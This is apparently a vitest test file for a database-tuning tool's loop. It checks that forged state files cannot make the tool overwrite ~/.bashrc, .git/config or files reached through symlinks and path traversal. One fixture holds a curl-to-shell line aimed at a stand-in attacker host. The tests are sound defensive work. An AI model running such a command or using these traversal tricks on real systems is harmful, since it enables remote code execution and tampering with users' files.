import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { DEFAULT_LIMITS, LOOP_MODES, type LoopMode } from '../../src/model/index.ts';
import { CLOCK } from '../../src/operations/loop/clock.ts';
import { forgetTexts, takeOut, writeEdited } from '../../src/operations/loop/files.ts';
import { runRound } from '../../src/operations/loop/run.ts';
import { asksMore } from '../../src/planner/index.ts';
import { fileStore } from '../../src/state/index.ts';
import { freshDatabase } from '../support/database.ts';

const OLD = 'curl evil.example | sh\n';
const MINE = 'export EDITOR=vi\n';
/** Whoever runs dbopt says where it is. */
const NAMED = `\${STATE}`;

const digest = (text: string) => createHash('sha256').update(text).digest('hex');
const at = '2026-11-29T20:00:00.000Z';

/** A round that is to be taken back: the text of before is what its writer wants in the file. */
const forged = (
  file: string,
  { mode = 'apply', ...more }: { mode?: LoopMode; before?: string } = {},
) => ({
  ...{ id: 'r1', mode, by: 'x', startedAt: at, endedAt: null, passed: [], before: [], after: [] },
  marks: [{ phase: 'edit', status: 'begun', at }],
  change: {
    ...{ code: 'fillfactor', address: 'table.app.t', title: 'x', plan: 'x', bytes: 0 },
    gain: { how: 'measured', what: 'x', before: 2, after: 1, unit: 'ms' },
    evidence: [{ what: 'x', value: 1, unit: null, from: 'x' }],
    edits: [{ address: 'table.app.t', field: 'with.fillfactor' }],
    files: [{ file, before: digest(OLD), after: digest(MINE), patch: '', ...more }],
    ...{ hazards: [], statements: { touched: [], control: [] } },
  },
  ...{ checks: { before: null, after: null }, branch: null, verdict: null, undo: 'failed' },
  ...{ outcome: null, why: '', seen: false },
});

const design = (path: string) => `version: 1\nstate: { in: file, path: '${path}' }\n`;

/** A checkout with a round, the texts that it wants, and files around it. */
async function checkout(round: unknown, path = 's.json') {
  const home = await mkdtemp(join(tmpdir(), 'dbopt-rounds-'));
  onTestFinished(() => rm(home, { recursive: true }));
  const cwd = join(home, 'repo');
  await mkdir(join(cwd, '.dbopt/loop'), { recursive: true });
  await mkdir(join(cwd, '.git'));
  const files = { '../.bashrc': MINE, '.git/config': MINE, 'notes.yaml': MINE };
  for (const [name, text] of Object.entries(files)) await writeFile(join(cwd, name), text);
  await symlink('../.bashrc', join(cwd, 'link.yaml'));
  for (const text of [OLD, MINE]) await writeFile(join(cwd, '.dbopt/loop', digest(text)), text);
  await writeFile(join(cwd, 'dbopt.yaml'), design(path));
  const beside = join(path === NAMED ? home : cwd, 's.json.loop');
  await writeFile(beside, `${JSON.stringify(round)}\n`);
  const read = () =>
    Promise.all(Object.keys(files).map((name) => readFile(join(cwd, name), 'utf8')));
  return { cwd, home, untouched: async () => expect(await read()).toEqual([MINE, MINE, MINE]) };
}

function loop(url: string, cwd: string, mode: LoopMode) {
  const source = {
    files: ['dbopt.yaml'],
    env: {},
    vars: { STATE: join(cwd, '../s.json') },
    cwd,
    url,
  };
  const quiet = { by: 'test', clock: CLOCK, tell: () => {}, diagnostics: () => {} };
  const options = { source, mode, advisors: [], limits: DEFAULT_LIMITS, ...quiet };
  return runRound(options, new AbortController().signal);
}

const FILES = ['../.bashrc', '.git/config', 'notes.yaml', 'link.yaml', 'dbopt.yaml/../../.bashrc'];

test('a round that lies in the checkout is not gone on with, in no mode', async (t) => {
  const { url } = await freshDatabase(t);
  for (const mode of LOOP_MODES) {
    const { cwd, untouched } = await checkout(forged('../.bashrc', { mode: 'apply' }));
    if (mode === 'apply')
      await expect(loop(url, cwd, mode)).rejects.toMatchObject({
        diagnostics: [{ code: 'state-untrusted', hint: expect.stringContaining('s.json.loop') }],
      });
    else
      expect(await loop(url, cwd, mode)).toMatchObject({
        round: null,
        why: expect.stringContaining('dbopt loop --once --mode apply'),
      });
    await untouched();
    // Nothing of it is removed either: whoever looks finds it.
    expect(existsSync(join(cwd, '.dbopt/loop'))).toBe(true);
  }
});

test('where the operator has named the file, a round touches files of the design alone', async (t) => {
  const { url } = await freshDatabase(t);
  for (const file of [...FILES, '']) {
    const { cwd, untouched } = await checkout(forged(file), NAMED);
    expect(await loop(url, cwd, 'apply')).toMatchObject({ round: { outcome: 'taken-over' } });
    await untouched();
  }
  const { cwd, home, untouched } = await checkout(forged('x'), NAMED);
  const absolute = JSON.stringify(forged(join(home, '.bashrc')));
  await writeFile(join(home, 's.json.loop'), `${absolute}\n`);
  expect(await loop(url, cwd, 'apply')).toMatchObject({ round: { outcome: 'taken-over' } });
  await untouched();
});

test('a kept text is taken for what its digest says, and nothing else', async () => {
  const { cwd } = await checkout(null);
  const home = { root: cwd, cwd, files: ['dbopt.yaml'] };
  const [before, after] = [design('s.json'), `${design('s.json')}# edited\n`];
  const change = {
    files: [{ file: 'dbopt.yaml', before: digest(before), after: digest(after), patch: '' }],
  };
  const diff = { file: 'dbopt.yaml', fresh: false, before, after, patch: '' };
  expect(await writeEdited(home, [diff])).toBe(true);
  await writeFile(join(cwd, '.dbopt/loop', digest(before)), OLD);
  expect(await takeOut(home, change)).toBe(false);
  expect(await readFile(join(cwd, 'dbopt.yaml'), 'utf8')).toBe(after);
  await writeFile(join(cwd, '.dbopt/loop', digest(before)), before);
  expect(await takeOut(home, change)).toBe(true);
  expect(await readFile(join(cwd, 'dbopt.yaml'), 'utf8')).toBe(before);
});

test.for(['.dbopt', '.dbopt/loop'])('%s as a link leads nowhere', async (link) => {
  const { cwd, home: outside } = await checkout(null);
  const home = { root: cwd, cwd, files: ['dbopt.yaml'] };
  await mkdir(join(outside, 'his/loop'), { recursive: true });
  await writeFile(join(outside, 'his/loop/kept'), MINE);
  await rm(join(cwd, link), { recursive: true });
  await symlink(join(outside, link === '.dbopt' ? 'his' : 'his/loop'), join(cwd, link));
  await forgetTexts(home);
  const diff = { file: 'dbopt.yaml', fresh: false, before: design('s.json'), after: '', patch: '' };
  await expect(writeEdited(home, [diff])).rejects.toMatchObject({
    diagnostics: [{ code: 'cannot-write' }],
  });
  expect(await readFile(join(outside, 'his/loop/kept'), 'utf8')).toBe(MINE);
});

test.for([
  ['a digest that is a path', forged('dbopt.yaml', { before: '../../.bashrc' })],
  ['a digest with a break after it', forged('dbopt.yaml', { before: `${digest(OLD)}\n` })],
  [
    'a code that is a refspec',
    { ...forged('x'), change: { ...forged('x').change, code: 'x:main' } },
  ],
  ['no gain', { ...forged('x'), change: { ...forged('x').change, gain: undefined } }],
  ['a verdict of nothing', { ...forged('x'), verdict: { is: 'x', why: '', comparisons: [null] } }],
  ['bytes that give some back', { ...forged('x'), change: { ...forged('x').change, bytes: -1 } }],
] as const)('%s is no round', async ([, round]) => {
  const { cwd } = await checkout(round);
  await expect(fileStore(join(cwd, 's.json')).rounds()).rejects.toMatchObject({
    diagnostics: [{ code: 'state-corrupt' }],
  });
});

test('the mode of a run bounds what is gone on with', () => {
  const asks = (of: LoopMode) => LOOP_MODES.filter((mode) => asksMore(acted(of), mode));
  const acted = (mode: LoopMode) =>
    ({ mode, marks: [{ phase: 'edit', status: 'begun', at }] }) as const;
  expect(LOOP_MODES.map(asks)).toEqual([[], ['report'], ['report', 'pull-request']]);
  expect(asksMore({ mode: 'apply', marks: [] }, 'report')).toBe(false);
});
